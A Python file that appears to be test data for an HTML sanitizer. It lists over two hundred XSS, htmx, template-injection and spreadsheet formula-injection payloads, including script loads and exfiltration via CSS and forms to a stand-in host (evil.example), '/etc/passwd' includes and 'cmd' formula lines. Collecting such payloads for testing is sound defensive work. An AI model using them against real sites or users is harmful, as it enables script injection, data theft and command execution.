"""More than two hundred words that would run, load or restyle something if a page took them for its own (P52)."""

# One to a line.
LINES = r"""
<script>alert(1)</script>
" onmouseover="alert(1)" autofocus onfocus="alert(1)
' onload='alert(1)
javascript:alert(1)
</title></textarea></script><img src=x onerror=alert(1)>
<svg/onload=alert(1)>
{{ 7 * 7 }}{% raw %}${alert(1)}
<a href="javascript:alert(1)">here</a>
<iframe srcdoc='<script>alert(1)</script>'></iframe>
<div hx-get='/sign-in' hx-trigger='load' hx-on:click='alert(1)'>
<style>*{display:none}</style><link rel=stylesheet href=//evil.example>
<base href=//evil.example>&lt;script&gt;
<SCRIPT>alert(1)</SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script src=//evil.example/x.js></script>
<script src=data:,alert(1)></script>
<script type=module>alert(1)</script>
<script async src="https://evil.example/x.js"></script>
<script>/*</script><script>*/alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
</style><script>alert(1)</script>
</select><script>alert(1)</script>
</option></select><img src=x onerror=alert(1)>
</button><script>alert(1)</script>
</template><script>alert(1)</script>
</noscript><script>alert(1)</script>
</svg><script>alert(1)</script>
</form><script>alert(1)</script>
</td></tr></table><script>alert(1)</script>
</dialog><script>alert(1)</script>
</summary></details><script>alert(1)</script>
<!--><script>alert(1)</script>-->
<!-- --!><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<%<script>alert(1)</script>%>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)"
<img/src/onerror=alert(1)>
<img src=`x`onerror=alert(1)>
<img src onerror=alert`1`>
<IMG SRC=JaVaScRiPt:alert(1)>
<img src="https://evil.example/pixel.gif">
<img srcset="//evil.example/a 1x, //evil.example/b 2x">
<img src=x:x onerror=alert(String.fromCharCode(49))>
<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">
<image src=x onerror=alert(1)>
<picture><source srcset=//evil.example/a><img onerror=alert(1)></picture>
<video src=x onerror=alert(1)>
<video><source onerror=alert(1)></video>
<video poster=//evil.example/a autoplay onloadstart=alert(1) src=x>
<audio src=x onerror=alert(1)>
<audio autoplay src=//evil.example/a oncanplay=alert(1)>
<track default onerror=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href=data:,alert(1) /></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set onbegin=alert(1) attributeName=x>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)/>#x">
<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>
<svg><image href=x onerror=alert(1)>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg onload=alert(1)//
<svg id=x onfocus=alert(1) tabindex=1 autofocus>
<math><a xlink:href="javascript:alert(1)">x</a></math>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<math href="javascript:alert(1)">x</math>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<body onhashchange=alert(1)>
<body background=//evil.example/a>
<html onmousemove=alert(1)>
<frameset onload=alert(1)>
<iframe src=javascript:alert(1)>
<iframe src="data:text/html,<script>alert(1)</script>">
<iframe onload=alert(1)>
<iframe src=//evil.example></iframe>
<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>
<frame src=javascript:alert(1)>
<object data=javascript:alert(1)>
<object data="data:text/html,<script>alert(1)</script>"></object>
<object type=text/html data=//evil.example></object>
<embed src=javascript:alert(1)>
<embed src=//evil.example/a.swf>
<applet code=x onerror=alert(1)>
<portal src=//evil.example>
<marquee onstart=alert(1)>x</marquee>
<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>
<details open ontoggle=alert(1)>
<dialog open onclose=alert(1)><form method=dialog><button autofocus>x</button></form></dialog>
<input autofocus onfocus=alert(1)>
<input onblur=alert(1) autofocus><input autofocus>
<input type=image src=x onerror=alert(1)>
<input type=hidden oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<keygen autofocus onfocus=alert(1)>
<button autofocus onfocus=alert(1)>x</button>
<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>y</p>
<button formaction=javascript:alert(1)>x</button>
<form action=javascript:alert(1)><button>x</button></form>
<form action=//evil.example><input name=password autofocus>
<form id=x></form><button form=x formaction=//evil.example>x</button>
<isindex type=image src=1 onerror=alert(1)>
<a href=javascript:alert(1)>x</a>
<a href="java&#9;script:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href=vbscript:msgbox(1)>x</a>
<a href=//evil.example target=_blank rel=opener>x</a>
<a ping=//evil.example href=/>x</a>
<a onclick=alert(1)>x</a>
<a style="position:fixed;inset:0" href=//evil.example>x</a>
<area shape=default href=javascript:alert(1)>
<link rel=stylesheet href=data:text/css,*{display:none}>
<link rel=prefetch href=//evil.example>
<link rel=preload as=script href=//evil.example/x.js>
<link rel=dns-prefetch href=//evil.example>
<link rel=manifest href=//evil.example/m.json>
<link rel=import href=//evil.example>
<link rel=icon href=//evil.example/i.ico>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0;url=//evil.example">
<meta http-equiv=Set-Cookie content="tieout=x">
<meta http-equiv=Content-Security-Policy content="script-src *">
<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<meta name=referrer content=unsafe-url>
<meta name=htmx-config content='{"allowEval":true}'>
<base href="javascript:/a/">
<base target=_blank>
<style>@import "//evil.example/x.css";</style>
<style>body{background:url(//evil.example/a)}</style>
<style>input[value^=a]{background:url(//evil.example/a)}</style>
<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=alert(1)>x</p>
<p style="background:url(//evil.example/a)">x</p>
<p style="width:expression(alert(1))">x</p>
<p style=animation-name:spin onanimationend=alert(1)>x</p>
<p style=transition:color:1s ontransitionend=alert(1) tabindex=1>x</p>
<p onpointerenter=alert(1) style=position:fixed;inset:0>x</p>
<p onwheel=alert(1) onscroll=alert(1) onmouseenter=alert(1)>x</p>
<p contenteditable oninput=alert(1) onbeforeinput=alert(1)>x</p>
<p draggable=true ondragstart=alert(1)>x</p>
<p accesskey=x onclick=alert(1)>x</p>
<p is=x-evil onclick=alert(1)>x</p>
<x onclick=alert(1)>x</x>
<x-evil onfocus=alert(1) tabindex=1 autofocus>x</x-evil>
<custom onanything=alert(1)>
<template shadowrootmode=open><script>alert(1)</script></template>
<template><img src=x onerror=alert(1)></template>
<slot onslotchange=alert(1)><p>x</p></slot>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<plaintext><script>alert(1)</script>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<table background=//evil.example/a><td background=javascript:alert(1)>
<p hx-get=/healthz hx-trigger=load>x</p>
<p data-hx-get=/healthz data-hx-trigger=load>x</p>
<p hx-get=//evil.example hx-trigger=load>x</p>
<p hx-on:load=alert(1) hx-on::after-init=alert(1)>x</p>
<p hx-on="htmx:load: alert(1)">x</p>
<p hx-trigger="load[alert(1)]" hx-get=/healthz>x</p>
<p hx-vals="js:{a:alert(1)}" hx-get=/healthz hx-trigger=load>x</p>
<p hx-headers='js:{"a":alert(1)}' hx-get=/healthz hx-trigger=load>x</p>
<p hx-swap-oob=true id=hub>x</p>
<p hx-post=/sign-out hx-trigger="load">x</p>
<hx-partial hx-target="body"><script>alert(1)</script></hx-partial>
<p hx-config='{"inlineScriptNonce":"x"}'>x</p>
{{ config }}{{ self.__init__.__globals__ }}
{{ "".__class__.__mro__[1].__subclasses__() }}
{% include "/etc/passwd" %}{% import "os" as os %}
{{ request.application.__globals__ }}{# a remark #}
${7*7}#{7*7}<%= 7*7 %>@(7*7)
{{constructor.constructor('alert(1)')()}}
" style="background:url(//evil.example/a)
' style='display:none' data-x='
" accesskey="x" onclick="alert(1)" x="
" href="javascript:alert(1)" x="
" formaction="javascript:alert(1)" type="submit" x="
" hx-get="/healthz" hx-trigger="load" x="
`-alert(1)-`
';alert(1);//
";alert(1);//
\";alert(1);//
\u003cscript\u003ealert(1)\u003c/script\u003e
</script><script>alert(1)//
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&amp;lt;img src=x onerror=alert(1)&amp;gt;
%3Cscript%3Ealert(1)%3C/script%3E
JaVaScRiPt:alert(1)
javascript://evil.example/%0aalert(1)
javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>
data:text/html,<script>alert(1)</script>
vbscript:msgbox(1)
//evil.example/x.js
https://evil.example/"><script>alert(1)</script>
file:///etc/passwd
=cmd|' /C calc'!A0
@SUM(1+1)*cmd|' /C calc'!A0
[x](javascript:alert(1)) ![x](//evil.example/a)
"""
# What a line of text cannot hold, or would not show.
UNSEEN = (
    "<script\n>alert(1)</script\n>",
    "\u202e<script>alert(1)</script>\u202c",
    "\u0007<base href=//evil.example>\u001b]0;x\u0007",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\u00a0javascript:alert(1)",
    "\u0001javascript:alert(1)",
    "<img\u000csrc=x\u000conerror=alert(1)>",
    "<img\u000bsrc=x onerror=alert(1)>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<\u017fcript>alert(1)</\u017fcript>",
    "\ufeff<script>alert(1)</script>",
    "a\u2028alert(1)\u2029<script>alert(1)</script>",
    "\u0085<svg onload=alert(1)>",
)
PAYLOADS = (*LINES.strip().split("\n"), *UNSEEN)


def batches(size):
    """Put them in batches, each of words from all over the list."""
    count = -(-len(PAYLOADS) // size)
    return [PAYLOADS[start::count] for start in range(count)]
